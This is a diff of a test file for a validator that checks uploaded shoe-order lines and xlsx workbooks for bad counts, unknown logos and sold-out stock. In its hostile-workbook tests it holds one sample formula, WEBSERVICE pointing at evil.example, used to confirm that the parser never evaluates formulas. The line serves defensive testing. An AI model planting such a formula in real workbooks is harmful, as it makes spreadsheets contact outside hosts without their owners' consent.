@@ -145,6 +145,7 @@ test('every wrong line is named with what is wrong, and what its column could sa
       line(PLAIN, `${madder},39,,-4,,`),
       line(PLAIN, `${madder},39,,1.5,,`),
       line(PLAIN, `${madder},39,,10001,,`),
+      line(PLAIN, `${madder},39,,1000000000,,`),
       line(PLAIN, `${madder},39,,11,,`),
       line(PLAIN, `${madder},39,,4,Nobody,`),
       line(PLAIN, `${madder},39,,4,,Ак-Кийиз`),
@@ -165,6 +166,7 @@ test('every wrong line is named with what is wrong, and what its column could sa
     ['count not_a_number'],
     ['count not_a_number'],
     ['count too_big'],
+    ['count too_big'],
     ['count sold_out'],
     ['logo unknown'],
     ['sole_logo not_allowed'],
@@ -175,6 +177,17 @@ test('every wrong line is named with what is wrong, and what its column could sa
     { column: 'logo', code: 'unknown', known: ['Ак-Кийиз'], limit: null },
     { column: 'sole', code: 'unknown', known: ['Rubber', 'Leather'], limit: null },
     { column: 'color', code: 'unknown', known: [madder], limit: null },
+  ])
+})
+
+test('lines with other logos share what lies ready of a colour and size', async () => {
+  const { lines } = await upload(
+    order(`${PLAIN},${madder},38,,7,,`, `${PLAIN},${madder},38,,4,Ак-Кийиз,`, `${PLAIN},${madder},39,,4,,`),
+  )
+  expect(lines.map(({ problems }) => problems)).toEqual([
+    [],
+    [{ column: 'count', code: 'sold_out', known: [], limit: 3 }],
+    [],
   ])
 })
 
@@ -296,7 +309,14 @@ describe('a hostile workbook', () => {
     expect(await issuesOf(xlsx(zipSync(parts)))).toEqual(['file unreadable'])
   })
 
-  test('computes nothing: the row of a formula is named', async () => {
+  test('with formulas of the client’s own beside an order is read', async () => {
+    const parts = await workbook((sheet) =>
+      sheet.replace(/<c r="D2"[^>]*>.*?<\/c>/, `$&<c r="J2"><f>D2*2</f><v>4</v></c>`),
+    )
+    expect((await upload(xlsx(zipSync(parts)))).lines).toMatchObject([{ row: 2, problems: [] }])
+  })
+
+  test('computes nothing: the cell of a formula is named', async () => {
     for (const formula of ['<f>1+1</f><v>2</v>', '<f>WEBSERVICE("http://evil.example")</f>']) {
       const parts = await workbook((sheet) =>
         sheet.replace(/<c r="D2"[^>]*>.*?<\/c>/, `<c r="D2">${formula}</c>`),
